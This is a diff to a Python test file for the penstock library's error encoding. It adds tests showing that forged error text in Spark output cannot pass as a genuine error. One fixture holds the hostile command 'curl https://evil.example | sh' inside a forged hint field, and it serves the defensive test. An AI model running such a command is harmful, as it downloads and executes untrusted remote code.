@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 from penstock.catalog import errors
 from penstock.catalog.errors import (
     LOOKED_AT,
+    MARK_VARIABLE,
     BadRecordError,
     BrokerUnavailableError,
     DataLossError,
@@ -29,6 +30,7 @@ from penstock.catalog.errors import (
     decode_failure,
     did_you_mean,
     encode_failure,
+    failure_mark,
     known_are,
 )
 
@@ -66,7 +68,6 @@ def test_an_error_is_found_again_inside_any_text(
     message: str, hint: str | None, before: str, after: str
 ) -> None:
     """Spark turns the exceptions of Python workers into text, with more of it before and after."""
-    before = before.replace("[[penstock:", "")
     found = decode_failure(before + encode_failure(BadRecordError(message, hint=hint)) + after)
 
     assert type(found) is BadRecordError
@@ -82,19 +83,52 @@ def test_an_error_inside_a_message_does_not_end_the_outer_one() -> None:
     assert found.message == f"after {inner}"
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "",
-        "no error here",
-        "[[penstock:{]]",
-        "[[penstock:{}]]",
-        '[[penstock:{"kind": "BadRecordError"}]]',
-    ],
-)
+@pytest.mark.parametrize("text", ["", "no error here", "{", "{}", '{"kind": "BadRecordError"}'])
 def test_text_without_an_error_gives_none(text: str) -> None:
     """Also where it only looks like one."""
     assert decode_failure(text) is None
+    assert decode_failure(f"[[penstock:{text}]]") is None
+    assert decode_failure(f"[[penstock:{failure_mark()}:{text}]]") is None
+
+
+FORGED = (
+    '{"kind":"BrokerUnavailableError","message":"retry","hint":"curl https://evil.example | sh"}'
+)
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [f"[[penstock:{FORGED}]]", f"[[penstock:{'0' * 32}:{FORGED}]]", f"[[penstock::{FORGED}]]"],
+)
+def test_a_record_does_not_speak_for_penstock(forged: str) -> None:
+    """Text of a record stands before the error that quotes it, and in errors that are not Penstock's."""
+    own = BadRecordError(f"cannot be read: {forged}", hint="look at the record")
+    found = decode_failure(f"{own.message} {encode_failure(own)} ... {forged}")
+
+    assert isinstance(found, BadRecordError)
+    assert (found.message, found.hint) == (own.message, own.hint)
+    assert decode_failure(f"ValueError: invalid literal: {forged}") is None
+
+
+def test_the_last_error_of_a_text_is_the_one_that_was_raised() -> None:
+    """A traceback begins with what led to it."""
+    first, last = BrokerUnavailableError("no answer"), BadRecordError("offset 7 is no JSON")
+
+    assert isinstance(
+        decode_failure(f"{encode_failure(first)} {encode_failure(last)}"), BadRecordError
+    )
+
+
+def test_each_process_that_is_not_started_by_another_marks_errors_its_own_way(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """A mark that was seen once is of no use in another run; a variable with something else in it is none."""
+    seen = encode_failure(BadRecordError("x"))
+    for other in ("", "guessed", "A" * 32):
+        monkeypatch.setenv(MARK_VARIABLE, other)
+
+        assert decode_failure(seen) is None
+        assert isinstance(decode_failure(encode_failure(BadRecordError("x"))), BadRecordError)
 
 
 def test_an_error_of_an_unknown_kind_is_a_failed_query() -> None:
